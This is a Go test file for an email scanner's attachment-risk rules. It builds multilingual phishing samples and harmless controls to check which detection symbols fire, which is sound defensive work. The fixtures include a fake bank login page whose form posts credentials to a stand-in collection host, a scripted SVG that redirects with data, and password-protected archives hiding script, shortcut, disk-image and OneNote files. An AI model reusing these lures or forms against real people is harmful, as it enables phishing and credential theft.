@@ -1,0 +1,136 @@
+package rules
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/base64"
+	"strings"
+	"testing"
+
+	"github.com/mxgrid/mxgrid/scanner"
+)
+
+// attachment is one attached file of a hand-written test message.
+type attachment struct {
+	name, ctype string
+	data        []byte
+}
+
+// mixed writes a multipart/mixed message with a plain text body and the
+// attachments, base64-encoded as MUAs send them.
+func mixed(from, subject, text string, atts ...attachment) []byte {
+	var b strings.Builder
+	b.WriteString("From: " + from + "\r\nTo: ana@example.org\r\nSubject: " + subject +
+		"\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" +
+		"--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + text + "\r\n")
+	for _, a := range atts {
+		b.WriteString("--b1\r\nContent-Type: " + a.ctype + "; name=\"" + a.name + "\"\r\nContent-Disposition: attachment; filename=\"" +
+			a.name + "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(a.data) + "\r\n")
+	}
+	b.WriteString("--b1--\r\n")
+	return []byte(b.String())
+}
+
+// zipOf builds a zip archive; encrypted sets the traditional encryption
+// flag (bit 0) that encrypted members carry.
+func zipOf(t *testing.T, encrypted bool, names ...string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for _, n := range names {
+		fh := &zip.FileHeader{Name: n, Method: zip.Store}
+		if encrypted {
+			fh.Flags |= 1
+		}
+		w, err := zw.CreateHeader(fh)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write([]byte("content of " + n)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func TestAttachRisk(t *testing.T) {
+	loginPage := []byte(`<html><body><img src="https://cdn.example.net/logo.png"><form action="https://collect.example.net/p.php" method="post">` +
+		`<input name="email"><input type="password" name="senha"></form></body></html>`)
+	svgScript := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://x.example.net/?e="+atob("YQ==")</script></svg>`)
+	pdf := []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n")
+	ics := []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Reunião de equipa\r\nDTSTART:20261210T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
+	tests := []struct {
+		name string
+		raw  func(t *testing.T) []byte
+		want []string // symbols of this group that must fire; the others must not
+	}{
+		{"pt: login page attached", func(*testing.T) []byte {
+			return mixed("Banco <avisos@seguranca-cliente.example>", "Atualização cadastral obrigatória",
+				"Prezado cliente, abra o documento anexo para confirmar seus dados.", attachment{"Comprovante.html", "text/html", loginPage})
+		}, []string{AttachHTML, AttachHTMLActive}},
+		{"en: svg with a script", func(*testing.T) []byte {
+			return mixed("Voicemail <noreply@voice-msg.example>", "New voicemail (0:42)",
+				"You have a new voice message. Open the attachment to listen.", attachment{"VM_0042.svg", "image/svg+xml", svgScript})
+		}, []string{AttachHTML, AttachHTMLActive}},
+		{"de: encrypted zip with the password", func(t *testing.T) []byte {
+			return mixed("Buchhaltung <rechnung@firma-abrechnung.example>", "Rechnung 2026-1187",
+				"Guten Tag,\r\nanbei die Rechnung. Passwort: 1187", attachment{"Rechnung_1187.zip", "application/zip", zipOf(t, true, "Rechnung_1187.pdf.js")})
+		}, []string{AttachArchivePass}},
+		{"es: zip holding a shortcut and an ISO, named .dat", func(t *testing.T) []byte {
+			return mixed("Correos <envios@correos-entregas.example>", "Su paquete está retenido",
+				"Adjuntamos el albarán. Contraseña: 5521", attachment{"albaran.dat", "application/octet-stream", zipOf(t, true, "albaran.iso", "albaran.lnk")})
+		}, []string{AttachDiskImage, AttachArchivePass}},
+		{"fr: disk image", func(*testing.T) []byte {
+			return mixed("La Poste <colis@laposte-suivi.example>", "Votre colis",
+				"Bonjour, veuillez trouver ci-joint le bordereau.", attachment{"bordereau.img", "application/octet-stream", []byte("not really a disk")})
+		}, []string{AttachDiskImage}},
+		{"it: OneNote inside a zip", func(t *testing.T) []byte {
+			return mixed("Ufficio <fatture@studio-contabile.example>", "Fattura scaduta",
+				"Buongiorno, in allegato la fattura. La password è 4411.", attachment{"fattura.zip", "application/zip", zipOf(t, true, "fattura.one")})
+		}, []string{AttachOneNote, AttachArchivePass}},
+		{"pt: a RAR with its senha, named by content only", func(*testing.T) []byte {
+			return mixed("Receita <notificacao@receita-avisos.example>", "Pendência fiscal",
+				"Documento protegido. Senha de acesso: 2026", attachment{"documento", "application/octet-stream", []byte("Rar!\x1a\x07\x01\x00rest")})
+		}, []string{AttachArchivePass}},
+		// Ham: none of the group's symbols may fire.
+		{"pt ham: a business's invoice PDF", func(*testing.T) []byte {
+			return mixed("Faturação <faturas@papelaria-central.pt>", "Fatura FT 2026/311",
+				"Bom dia,\r\nSegue em anexo a fatura FT 2026/311 referente à encomenda de novembro.\r\nCumprimentos,\r\nPapelaria Central, Lda.",
+				attachment{"FT_2026_311.pdf", "application/pdf", pdf})
+		}, nil},
+		{"en ham: a calendar invitation", func(*testing.T) []byte {
+			return mixed("Maria <maria@example.com>", "Invitation: team meeting",
+				"Hi, see the invitation attached.", attachment{"invite.ics", "text/calendar", ics})
+		}, nil},
+		{"de ham: a zip of holiday photos", func(t *testing.T) []byte {
+			return mixed("Jonas <jonas@example.de>", "Urlaubsfotos",
+				"Hallo Ana, hier die Fotos vom Wochenende. Das WLAN-Passwort für die Hütte schicke ich dir noch.",
+				attachment{"fotos.zip", "application/zip", zipOf(t, false, "IMG_0001.jpg", "IMG_0002.jpg")})
+		}, nil},
+		{"fr ham: an HTML newsletter, inline", func(*testing.T) []byte {
+			return []byte("From: Librairie <lettre@librairie-exemple.fr>\r\nTo: ana@example.org\r\nSubject: Nos nouveautés\r\n" +
+				"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><h1>Nouveautés de décembre</h1>" +
+				"<p>Découvrez nos livres.</p><a href=\"https://librairie-exemple.fr/nouveautes\">Voir</a><form action=\"https://librairie-exemple.fr/recherche\"></form></body></html>\r\n")
+		}, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := run(t, &scanner.Envelope{}, scanner.Parse(tt.raw(t)), nil)
+			want := map[string]bool{}
+			for _, s := range tt.want {
+				want[s] = true
+				if _, ok := got[s]; !ok {
+					t.Errorf("%s did not fire: %v", s, got)
+				}
+			}
+			for s := range attachWeights {
+				if _, ok := got[s]; ok && !want[s] {
+					t.Errorf("%s fired: %v", s, got)
+				}
+			}
+		})
+	}
+}
